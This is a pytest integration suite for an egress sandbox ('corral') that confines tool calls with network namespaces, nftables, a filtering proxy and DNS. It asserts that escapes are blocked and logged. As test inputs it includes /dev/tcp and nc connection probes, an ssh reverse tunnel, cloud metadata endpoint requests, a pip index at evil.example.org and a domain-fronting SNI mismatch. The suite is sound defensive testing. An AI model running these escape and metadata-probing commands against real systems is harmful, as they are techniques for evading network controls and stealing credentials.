"""Integration: real netns, veth, nftables, NFLOG, proxy and DNS; only namespaces this test made."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import time
from collections.abc import Callable, Iterator

import pytest
from dnslib import QTYPE, RCODE, DNSRecord
from egress_support import OutsideHost, sandbox_run, shared_tmpdir

from corral.egress import Egress, NetworkAttachment
from corral.egress._nsutil import in_netns
from corral.errors import EgressError
from corral.events import Event, TraceContext
from corral.policy import Policy

POLICY = """
network:
  mode: allowlist
  allow:
    - pkg.test:80,443
    - {domain: "*.pkg.test", ports: [80]}
    - {cidr: 198.18.7.2/32, ports: [80]}
    - rebind.test:80
  deny:
    - blocked.pkg.test
  hosts:
    pkg.test: [198.18.7.2]
    mirror.pkg.test: [198.18.7.2]
    blocked.pkg.test: [198.18.7.2]
    rebind.test: [10.9.9.9]
"""

Run = Callable[..., subprocess.CompletedProcess[str]]


class Sink:
    def __init__(self) -> None:
        self.events: list[Event] = []

    def __call__(self, ev: Event) -> None:
        self.events.append(ev)

    def of(self, kind: str, ctx: TraceContext | None = None) -> list[Event]:
        return [e for e in self.events if e.type == kind and (ctx is None or e.ctx == ctx)]


@pytest.fixture(scope="module")
def sink() -> Sink:
    return Sink()


@pytest.fixture(scope="module")
def egress(private_host: None, outside: OutsideHost, metadata: OutsideHost, sink: Sink) -> Iterator[Egress]:
    with Egress.start(Policy.from_yaml(POLICY), sink, host="node-1", pool_size=1) as eg:
        yield eg


@pytest.fixture
def att(egress: Egress) -> Iterator[NetworkAttachment]:
    a = egress.attach("sb-test")
    yield a
    a.close()


def _py(code: str) -> list[str]:
    return ["python3", "-c", code]


def _connect_code(host: str, port: int, family: str = "AF_INET", timeout: float = 3) -> str:
    return (
        f"import socket,sys\ns=socket.socket(socket.{family});s.settimeout({timeout})\n"
        f"try:\n s.connect(({host!r},{port}));print('CONNECTED')\nexcept OSError as e:\n print('FAIL',e)"
    )


def test_direct_paths_all_fail_and_listener_sees_nothing(
    att: NetworkAttachment, outside: OutsideHost
) -> None:
    ctx = TraceContext(run_id="r1", episode_id="e1", step=1, turn=1, tool_call_id="direct")
    att.begin_call(ctx)
    cmds = [
        _py(_connect_code(outside.ip, 22)),
        _py(_connect_code(outside.ip, 3333)),
        ["nc", "-z", "-w", "2", outside.ip, "3333"],
        ["bash", "-c", f"echo hi > /dev/tcp/{outside.ip}/22"],
        _py(f"import socket as s;s.socket(s.AF_INET,s.SOCK_DGRAM).sendto(b'x',('{outside.ip}',5353))"),
        ["ping", "-c", "1", "-W", "1", outside.ip],
        _py(_connect_code(outside.ip6, 2222, "AF_INET6")),
        ["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "-o", "StrictHostKeyChecking=no",
         "-R", "9000:localhost:22", "-p", "22", f"x@{outside.ip}", "true"],
    ]  # fmt: skip
    for argv in cmds:
        r = sandbox_run(att, argv)
        assert "CONNECTED" not in r.stdout, (argv, r.stdout)
        if argv[0] != "python3":
            assert r.returncode != 0, (argv, r.stdout, r.stderr)
    time.sleep(0.3)
    assert all(not lis.seen for lis in outside.listeners.values()), outside.listeners
    att.end_call()
    denied = [e for e in att_events(att) if e.ctx == ctx and e.data.decision == "denied"]  # type: ignore[union-attr]
    dests = {(e.data.Protocol, e.data.DestinationIp, e.data.DestinationPort) for e in denied}  # type: ignore[union-attr]
    assert ("tcp", outside.ip, 22) in dests and ("tcp", outside.ip, 3333) in dests
    assert ("udp", outside.ip, 5353) in dests and ("icmp", outside.ip, None) in dests


_SINK: Sink | None = None


def att_events(att: NetworkAttachment) -> list[Event]:
    assert _SINK is not None
    return [e for e in _SINK.events if e.sandbox_id == att.sandbox_id]


@pytest.fixture(autouse=True)
def _bind_sink(sink: Sink) -> None:
    global _SINK
    _SINK = sink


def test_each_denied_attempt_is_one_event_with_context(att: NetworkAttachment, outside: OutsideHost) -> None:
    ctx = TraceContext(run_id="r1", episode_id="e2", step=2, turn=0, tool_call_id="once")
    att.begin_call(ctx)
    code = (
        "import socket\nports=[]\nfor _ in range(3):\n s=socket.socket();s.settimeout(2)\n"
        f" try: s.connect(({outside.ip!r},3333))\n except OSError: pass\n"
        " ports.append(s.getsockname()[1])\nprint(*ports)"
    )
    r = sandbox_run(att, _py(code))
    att.end_call()
    ports = {int(p) for p in r.stdout.split()}
    evs = [e for e in att_events(att) if e.ctx == ctx]
    assert len(evs) == 3, evs
    assert {e.data.SourcePort for e in evs} == ports  # type: ignore[union-attr]
    assert all(e.data.layer == "nftables" and e.data.SourceIp == att.sandbox_ip for e in evs)  # type: ignore[union-attr]


def test_host_addresses_and_ports_other_than_proxy_fail(att: NetworkAttachment, outside: OutsideHost) -> None:
    for host, port in [(att.gateway, 22), (att.gateway, 53), (att.gateway, 8080), (outside.host_ip, 80)]:
        r = sandbox_run(att, _py(_connect_code(host, port)))
        assert r.stdout.startswith("FAIL"), (host, port, r.stdout)


def test_metadata_addresses_fail_direct_and_via_proxy(att: NetworkAttachment, metadata: OutsideHost) -> None:
    for ip in ("169.254.169.254", "100.100.100.200"):
        r = sandbox_run(att, _py(_connect_code(ip, 80)))
        assert r.stdout.startswith("FAIL"), r.stdout
        r = sandbox_run(att, ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", f"http://{ip}/latest/"])
        assert r.stdout == "403", r
    r = sandbox_run(att, ["curl", "-sS", "http://metadata.google.internal/computeMetadata/v1/"])
    assert "denied by policy" in r.stdout
    assert not metadata.http_peers


def test_allowed_name_through_proxy_works_and_records_outside_tuple(
    att: NetworkAttachment, outside: OutsideHost
) -> None:
    ctx = TraceContext(run_id="r1", tool_call_id="curl-ok")
    att.begin_call(ctx)
    r = sandbox_run(att, ["curl", "-sS", "--max-time", "5", "http://pkg.test/index"])
    assert r.stdout == "hello from /index", r
    r = sandbox_run(att, ["curl", "-sS", "--max-time", "5", "-x", "", "--socks5-hostname",
                          f"{att.gateway}:{att.proxy_port}", "http://mirror.pkg.test/s5"])  # fmt: skip
    assert r.stdout == "hello from /s5", r
    att.end_call()
    time.sleep(0.2)
    allowed = [e for e in att_events(att) if e.ctx == ctx and e.data.decision == "allowed"]  # type: ignore[union-attr]
    assert {e.data.proxy_protocol for e in allowed} == {"http", "socks5"}  # type: ignore[union-attr]
    outs = {(e.data.outside_src_ip, e.data.outside_src_port) for e in allowed}  # type: ignore[union-attr]
    assert set(outside.http_peers[-2:]) == outs
    assert all(e.data.bytes_received > 0 and e.data.outside_dst_ip == outside.ip for e in allowed)  # type: ignore[union-attr]


def test_denied_names_get_403_and_one_event(att: NetworkAttachment) -> None:
    cases = {
        "http://evil.example.org/": "default-deny",
        "http://blocked.pkg.test/": "deny:blocked.pkg.test",
        "http://rebind.test/": "rebinding:always-denied:private",
    }
    for url, rule in cases.items():
        ctx = TraceContext(run_id="r1", tool_call_id=url)
        att.begin_call(ctx)
        r = sandbox_run(att, ["curl", "-sS", "-i", "--max-time", "5", url])
        att.end_call()
        assert "403 Forbidden" in r.stdout and "denied by policy" in r.stdout, r
        evs = [e for e in att_events(att) if e.ctx == ctx]
        assert len(evs) == 1 and evs[0].data.rule is not None and evs[0].data.rule.startswith(rule), evs  # type: ignore[union-attr]


def _dns(att: NetworkAttachment, name: str, qtype: str = "A") -> DNSRecord:
    q = DNSRecord.question(name, qtype).pack().hex()
    code = (
        f"import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(3)\n"
        f"s.sendto(bytes.fromhex({q!r}),({att.gateway!r},53));print(s.recv(4096).hex())"
    )
    r = sandbox_run(att, _py(code))
    return DNSRecord.parse(bytes.fromhex(r.stdout.strip()))


def test_dns_answers_listed_names_only_and_logs_queries(att: NetworkAttachment) -> None:
    ctx = TraceContext(run_id="r1", tool_call_id="dns")
    att.begin_call(ctx)
    ok = _dns(att, "pkg.test")
    assert [str(rr.rdata) for rr in ok.rr] == ["198.18.7.2"]
    for name in ("evil.example.org", "x1.tunnel.example.org", "rebind.test"):
        assert _dns(att, name).header.rcode == RCODE.NXDOMAIN
    r = sandbox_run(att, ["getent", "hosts", "pkg.test"])  # through the bound resolv.conf
    assert "198.18.7.2" in r.stdout
    att.end_call()
    qs = [e.data for e in att_events(att) if e.ctx == ctx and e.type == "dns_query"]
    assert [(q.QueryName, q.decision) for q in qs if q.QueryType == "A"][:4] == [  # type: ignore[union-attr]
        ("pkg.test", "allowed"),
        ("evil.example.org", "denied"),
        ("x1.tunnel.example.org", "denied"),
        ("rebind.test", "denied"),
    ]
    assert QTYPE.A == 1


def test_dead_proxy_leaves_no_network_and_check_raises(
    private_host: None, outside: OutsideHost, sink: Sink
) -> None:
    policy = Policy.from_yaml(POLICY)
    with Egress.start(policy, sink, pool_size=0) as eg:
        att = eg.attach("sb-dead")
        att.check()
        assert eg.proxy.server is not None
        eg.loop.call_soon_threadsafe(eg.proxy.server.close)
        time.sleep(0.1)
        with pytest.raises(EgressError):
            att.check()
        r = sandbox_run(att, ["curl", "-sS", "--max-time", "3", "http://pkg.test/x"])
        assert r.returncode != 0 and "hello" not in r.stdout
        assert sandbox_run(att, _py(_connect_code(outside.ip, 80))).stdout.startswith("FAIL")
        att.close()


def test_killed_harness_leaves_netns_closed(private_host: None, outside: OutsideHost) -> None:
    """SIGKILL the process that owns the egress mid-call: the netns keeps its rules, nothing leaves."""
    script = (
        "import sys,time\nfrom corral.egress import Egress\nfrom corral.policy import Policy\n"
        f"eg=Egress.start(Policy.from_yaml({POLICY!r}),lambda e:None,pool_size=0)\n"
        "a=eg.attach('sb-kill');print(a.netns_path,a.gateway,flush=True);time.sleep(60)"
    )
    p = subprocess.Popen([os.sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    try:
        assert p.stdout is not None
        path, gateway = p.stdout.readline().split()
        p.kill()
        p.wait()

        class _Dead:
            netns_path, files, env, sandbox_id = path, {}, {}, "dead"

        for argv in (_py(_connect_code(outside.ip, 80)), ["curl", "-sS", "--max-time", "3", "-x",
                     f"http://{gateway}:3128", "http://pkg.test/"]):  # fmt: skip
            r = sandbox_run(_Dead, argv)  # type: ignore[arg-type]
            assert "CONNECTED" not in r.stdout and "hello" not in r.stdout, r
    finally:
        p.kill()
    # the next owner of the block sweeps what the dead one left
    with Egress.start(Policy.from_yaml(POLICY), lambda e: None, pool_size=0):
        pass
    assert not os.path.exists(path)


def test_cycles_leak_nothing(private_host: None) -> None:
    def state() -> tuple[set[str], set[str], str]:
        links = set(subprocess.run(["ip", "-o", "link"], capture_output=True, text=True).stdout.split("\n"))
        tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
        return {ln.split(":")[1].strip() for ln in links if ln}, set(os.listdir("/run/netns")), tables

    before = state()
    with Egress.start(Policy.from_yaml(POLICY), lambda e: None, pool_size=1) as eg:
        for i in range(6):
            a = eg.attach(f"sb-{i}")
            a.check()
            a.close()
    time.sleep(0.1)
    assert state() == before


def test_https_through_connect_and_sni_must_match(
    att: NetworkAttachment, outside: OutsideHost, tls_cert: tuple[str, str]
) -> None:
    ctx = TraceContext(run_id="r1", tool_call_id="https")
    att.begin_call(ctx)
    r = sandbox_run(att, ["curl", "-sS", "--max-time", "5", "--cacert", tls_cert[0], "https://pkg.test/tls"])
    assert r.stdout == "tls hello from /tls", r
    # CONNECT to an allowed name, then a ClientHello naming another host: domain fronting, refused
    code = (
        "import socket,ssl\n"
        f"s=socket.create_connection(({att.gateway!r},{att.proxy_port}),timeout=5)\n"
        "s.sendall(b'CONNECT pkg.test:443 HTTP/1.1\\r\\n\\r\\n');print(s.recv(100))\n"
        "c=ssl.create_default_context();c.check_hostname=False;c.verify_mode=ssl.CERT_NONE\n"
        "try:\n c.wrap_socket(s,server_hostname='evil.example.org');print('TLS-OK')\n"
        "except OSError as e: print('TLS-FAIL',e)"
    )
    r = sandbox_run(att, _py(code))
    assert "200 Connection established" in r.stdout and "TLS-FAIL" in r.stdout, r
    att.end_call()
    evs = [e.data for e in att_events(att) if e.ctx == ctx]
    assert [(e.decision, e.rule, e.proxy_protocol) for e in evs] == [  # type: ignore[union-attr]
        ("allowed", "allow:pkg.test:80,443", "http-connect"),
        ("denied", "sni-mismatch:evil.example.org", "http-connect"),
    ]


def test_pip_installs_from_a_local_index_through_the_proxy(
    att: NetworkAttachment, tls_cert: tuple[str, str]
) -> None:
    dest = shared_tmpdir(0o777)
    pip = [
        "/usr/bin/python3",
        "-m",
        "pip",
        "download",
        "--no-deps",
        "--no-cache-dir",
        "--disable-pip-version-check",
    ]
    r = sandbox_run(
        att,
        [*pip, "--cert", tls_cert[0], "--index-url", "https://pkg.test/simple/", "-d", dest, "tinypkg"],
        60,
    )
    assert r.returncode == 0, r.stderr
    assert os.listdir(dest) == ["tinypkg-0.1-py3-none-any.whl"]
    r = sandbox_run(
        att,
        [*pip, "--retries", "0", "--index-url", "http://evil.example.org/simple/", "-d", dest, "tinypkg"],
        60,
    )
    assert r.returncode != 0
    shutil.rmtree(dest)


def test_flow_that_outlives_its_call_keeps_the_calls_context(
    att: NetworkAttachment, outside: OutsideHost
) -> None:
    a, b = TraceContext(run_id="r1", tool_call_id="call-a"), TraceContext(run_id="r1", tool_call_id="call-b")
    fd = os.open(att.netns_path, os.O_RDONLY)
    try:
        att.begin_call(a)
        with in_netns(fd):
            s = socket.create_connection((att.gateway, att.proxy_port), timeout=5)
        s.sendall(f"CONNECT {outside.ip}:80 HTTP/1.1\r\n\r\n".encode())
        assert s.recv(100).startswith(b"HTTP/1.1 200")
        att.end_call()
        att.begin_call(b)
        s.sendall(b"GET /late HTTP/1.0\r\n\r\n")
        reply = b""
        while chunk := s.recv(1000):
            reply += chunk
        assert reply.endswith(b"hello from /late")
        s.close()
        time.sleep(0.2)
        att.end_call()
    finally:
        os.close(fd)
    flows = [e for e in att_events(att) if e.type == "network_connection" and e.data.layer == "proxy"]  # type: ignore[union-attr]
    assert flows[-1].data.DestinationPort == 80 and flows[-1].ctx == a  # type: ignore[union-attr]


def test_host_side_link_never_forwards(egress: Egress, att: NetworkAttachment) -> None:
    assert att.sandbox_ip is not None
    slot = egress.block.slot_of(att.sandbox_ip)
    assert slot is not None
    name = egress.block.host_if(slot)
    with open(f"/proc/sys/net/ipv4/conf/{name}/forwarding") as f:
        assert f.read().strip() == "0"
    with open(f"/proc/sys/net/ipv6/conf/{name}/disable_ipv6") as f:
        assert f.read().strip() == "1"


def test_check_fails_closed_when_the_rules_are_gone(
    private_host: None, outside: OutsideHost, sink: Sink
) -> None:
    with Egress.start(Policy.from_yaml(POLICY), sink, pool_size=0) as eg:
        att = eg.attach("sb-norules")
        att.check()
        subprocess.run(
            ["ip", "netns", "exec", os.path.basename(att.netns_path), "nft", "flush", "ruleset"], check=True
        )
        with pytest.raises(EgressError, match="nftables rules are missing"):
            att.check()
        # the host-side table still holds: only the proxy and DNS answer, nothing else on the host
        with socket.create_server(("0.0.0.0", 18080)) as host_service:
            host_service.settimeout(0.5)
            for host in (att.gateway, "198.18.7.1"):
                assert sandbox_run(att, _py(_connect_code(host, 18080, timeout=1))).stdout.startswith("FAIL")
            with pytest.raises(TimeoutError):
                host_service.accept()
        r = sandbox_run(att, ["curl", "-sS", "--max-time", "5", "http://pkg.test/still"])
        assert r.stdout == "hello from /still"
        att.close()
